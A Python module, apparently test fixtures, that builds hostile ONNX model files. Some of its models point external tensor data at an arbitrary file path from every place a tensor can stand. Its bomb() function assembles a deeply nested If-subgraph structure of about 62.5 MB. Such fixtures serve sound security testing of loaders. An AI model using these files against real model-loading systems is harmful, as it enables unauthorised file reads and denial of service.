"""Hostile ONNX files, made as an attacker would: external tensors wherever a TensorProto can stand, bombs.

Every model is x (B, 4) -> Add(x, c) -> y unless said otherwise; `c` (or a tensor beside it) points at a file.
"""
from __future__ import annotations

import onnx
from onnx import AttributeProto, TensorProto, helper


def external(name: str, location: str, dims=(4,), length: int | None = None) -> TensorProto:
    """A float tensor whose data is `location` read from offset 0 (what onnx would open)."""
    t = TensorProto(name=name, data_type=TensorProto.FLOAT, dims=list(dims))
    t.data_location = TensorProto.EXTERNAL
    n = 4 * int(__import__("math").prod(dims)) if length is None else length
    for k, v in (("location", location), ("offset", "0"), ("length", str(n))):
        e = t.external_data.add()
        e.key, e.value = k, v
    return t


def _io():
    return ([helper.make_tensor_value_info("x", TensorProto.FLOAT, ["batch", 4])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["batch", 4])])


def model(nodes, initializer=(), sparse=(), opset=17, **extra) -> bytes:
    ins, outs = _io()
    graph = helper.make_graph(nodes, "evil", ins, outs, initializer=list(initializer), sparse_initializer=list(sparse))
    extra.setdefault("opset_imports", [helper.make_opsetid("", opset)])
    m = helper.make_model(graph, **extra)
    return m.SerializeToString()


def _add(c="c"):
    return helper.make_node("Add", ["x", c], ["y"], name="add")


def _sparse(location):
    idx = helper.make_tensor("idx", TensorProto.INT64, [4], [0, 1, 2, 3])
    return helper.make_sparse_tensor(external("c", location), idx, [4])


def _attribute(name, kind, value):
    a = AttributeProto(name=name, type=kind)
    getattr(a, {AttributeProto.TENSORS: "tensors", AttributeProto.SPARSE_TENSORS: "sparse_tensors"}[kind]).append(value)
    return a


def _with_attribute(a):
    node = _add("x")
    node.attribute.append(a)
    return node


def _subgraph(location):
    branch = helper.make_graph([helper.make_node("Constant", [], ["c"], value=external("v", location))], "then",
                               [], [helper.make_tensor_value_info("c", TensorProto.FLOAT, [4])])
    cond = helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("b", TensorProto.BOOL, [], [True]))
    return model([cond, helper.make_node("If", ["cond"], ["c"], then_branch=branch, else_branch=branch, name="if"),
                  _add()])


def _function(location):
    body = [helper.make_node("Constant", [], ["k"], value=external("v", location)),
            helper.make_node("Add", ["a", "k"], ["b"])]
    fn = helper.make_function("evil.fn", "Shift", ["a"], ["b"], body, [helper.make_opsetid("", 17)])
    return model([helper.make_node("Shift", ["x"], ["y"], domain="evil.fn", name="shift")],
                 functions=[fn], opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("evil.fn", 1)])


def _training(location):
    m = onnx.load_from_string(model([_add("x")]))
    init = helper.make_graph([], "init", [], [], initializer=[external("w", location)])
    m.training_info.add().initialization.CopyFrom(init)
    return m.SerializeToString()


def places(location: str) -> dict[str, bytes]:
    """One model per place a TensorProto can stand, each pointing at `location`."""
    return {
        "initializer": model([_add()], initializer=[external("c", location)]),
        "constant value": model([helper.make_node("Constant", [], ["c"], value=external("c", location), name="k"),
                                 _add()]),
        "constant sparse_value": model([helper.make_node("Constant", [], ["c"], sparse_value=_sparse(location),
                                                         name="k"), _add()]),
        "sparse initializer": model([_add()], sparse=[_sparse(location)]),
        "attribute t": model([helper.make_node("ConstantOfShape", ["shape"], ["c"], value=external("v", location, (1,)),
                                               name="fill"), _add()],
                             initializer=[helper.make_tensor("shape", TensorProto.INT64, [1], [4])]),
        "attribute tensors": model([_with_attribute(_attribute("extra", AttributeProto.TENSORS,
                                                                external("v", location)))]),
        "attribute sparse_tensors": model([_with_attribute(_attribute("extra", AttributeProto.SPARSE_TENSORS,
                                                                       _sparse(location)))]),
        "subgraph": _subgraph(location),
        "function": _function(location),
        "training info": _training(location),
    }


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | 0x80 if n else b)
        if not n:
            return bytes(out)


def _field(num: int, payload: bytes) -> bytes:
    return _varint(num << 3 | 2) + _varint(len(payload)) + payload


def bomb(levels: int = 19, pad: int = 12) -> bytes:
    """The issue's bomb: a Relu whose attribute `body` holds a binary tree of If subgraphs (2**levels leaves),
    built as bytes (each level's two branches are the same bytes twice), ~62.5 MB at 19 levels."""
    out = helper.make_tensor_value_info("o", TensorProto.FLOAT, [1])
    blob = helper.make_graph([helper.make_node("Identity", ["x"], ["o"])], "l" * pad, [], [out]).SerializeToString()
    head = helper.make_graph([], "g", [], [out]).SerializeToString()
    for _ in range(levels):
        node = helper.make_node("If", ["c"], ["o"]).SerializeToString()
        for name in ("then_branch", "else_branch"):
            node += _field(5, AttributeProto(name=name, type=AttributeProto.GRAPH).SerializeToString() + _field(6, blob))
        blob = head + _field(1, node)
    relu = helper.make_node("Relu", ["x"], ["y"], name="relu").SerializeToString()
    relu += _field(5, AttributeProto(name="body", type=AttributeProto.GRAPH).SerializeToString() + _field(6, blob))
    ins, outs = _io()
    graph = _field(1, relu) + helper.make_graph([], "main", ins, [helper.make_tensor_value_info(
        "y", TensorProto.FLOAT, ["batch", 4])]).SerializeToString()
    m = helper.make_model(helper.make_graph([], "x", [], []), opset_imports=[helper.make_opsetid("", 17)])
    m.ClearField("graph")
    return m.SerializeToString() + _field(7, graph)
